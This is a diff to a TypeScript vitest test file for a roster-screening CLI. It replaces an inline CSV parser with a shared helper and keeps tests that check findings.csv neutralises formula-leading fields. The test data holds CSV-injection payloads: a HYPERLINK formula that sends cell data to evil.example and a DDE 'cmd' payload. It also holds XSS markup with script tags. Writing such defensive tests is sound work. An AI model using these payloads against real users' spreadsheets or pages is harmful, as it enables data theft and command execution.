@@ -12,6 +12,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { validApplicant, type RowInput } from '../helpers/screen-rows.js';
 import { buildXlsx, idNumberFor, rosterSheetData } from './build.js';
 import { noStackTrace, put, screen, tempDir } from './cli.js';
+import { csvFields } from '../helpers/csv-fields.js';
 
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =1+1'];
 const MARKUP = '<img src=x onerror=alert(1)>&amp;<script>alert("x")</script>';
@@ -47,46 +48,13 @@ beforeAll(() => {
   noStackTrace(r.stderr);
 });
 
-/** RFC 4180 fields of a CSV text. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let f = '';
-  let q = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (q) {
-      if (c === '"' && text[i + 1] === '"') {
-        f += '"';
-        i++;
-      } else if (c === '"') q = false;
-      else f += c;
-    } else if (c === '"') q = true;
-    else if (c === ',') {
-      row.push(f);
-      f = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(f);
-      rows.push(row);
-      row = [];
-      f = '';
-      i++;
-    } else f += c;
-  }
-  if (f !== '' || row.length) {
-    row.push(f);
-    rows.push(row);
-  }
-  return rows;
-}
-
 describe('CSV', () => {
   it('the run completes', () => {
     expect(status).toBe(1);
   });
 
   it('findings.csv: no field starts with = + - @, tab or CR (after spaces) unless neutralised with \'', () => {
-    const rows = parseCsv(readFileSync(path.join(out, 'findings.csv'), 'utf8').replace(/^\uFEFF/, ''));
+    const rows = csvFields(readFileSync(path.join(out, 'findings.csv'), 'utf8').replace(/^\uFEFF/, ''));
     expect(rows.length).toBeGreaterThan(PAYLOADS.length);
     const dangerous = rows.flat().filter((f) => /^(?:[\t\r]| *[=+\-@])/.test(f));
     expect(dangerous).toEqual([]);
